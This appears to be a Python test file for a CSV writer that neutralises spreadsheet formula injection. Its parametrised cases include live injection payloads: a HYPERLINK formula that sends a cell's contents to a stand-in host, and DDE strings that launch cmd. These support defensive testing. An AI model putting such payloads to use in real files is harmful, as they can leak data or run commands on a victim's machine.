"""No cell that anybody can write is a formula; figures, phone numbers and words behind a dash stay as they are."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from config.csv_cell import CsvWriter, neutralise, neutralise_copied
from tests.conftest import ROOT


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://e.example/?x="&A2,"open")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1",
     "-2+3+cmd|' /C calc'!A0",
     "+cmd|' /C calc'!A0", "＝1+1", "=", "-SUM(A1)", "- SUM(A1)", "@name", "\n=1"],
)  # fmt: skip
def test_what_would_be_computed_is_words(cell: str) -> None:
    assert neutralise(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    ["", "no water", "-72.33", "+509 3730-0005", "+50936200001", "-", "1.5e-3", "-1.5E+3", "- pa gen dlo",
     "a=b", "<id@x>",
     "27.7", "'=1", "पानी", " water"],
)  # fmt: skip
def test_what_is_none_stays(cell: str) -> None:
    assert neutralise(cell) == cell
    assert neutralise_copied(cell) == cell


@pytest.mark.parametrize("cell", ["=1+1", " =1", "@SUM(1)", "+cmd|' /C calc'!A0", "-HYPERLINK(1)"])
def test_in_a_row_that_was_read_what_is_computed_changes(cell: str) -> None:
    assert neutralise_copied(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["@maria no water here (Delmas)", "-water", "+ 5 houses", "- help!", "-1+1"])
def test_in_a_row_that_was_read_the_rest_is_as_it_was(cell: str) -> None:
    assert neutralise_copied(cell) == cell


@given(st.lists(st.one_of(st.text(max_size=20), st.integers(), st.floats(), st.none()), min_size=1, max_size=5))
def test_every_row_is_read_as_it_was_written_but_for_the_apostrophe(cells: list[object]) -> None:
    target = io.StringIO(newline="")
    CsvWriter(target).write(cells)
    [row] = csv.reader(io.StringIO(target.getvalue(), newline=""))
    for cell, found in zip(cells, row, strict=True):
        told = "" if cell is None else str(cell)
        assert found in (told, f"'{told}")
        assert not (isinstance(cell, str) and re.match(r"[=@\t\r]", found))


def test_nothing_else_writes_csv() -> None:
    found = {
        path.relative_to(ROOT).as_posix()
        for folder in ("channels", "config", "geo", "reporting")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(r"csv\.(?:writer|DictWriter)|to_csv", path.read_text(encoding="utf-8"))
    }
    assert found == {"config/csv_cell.py"}
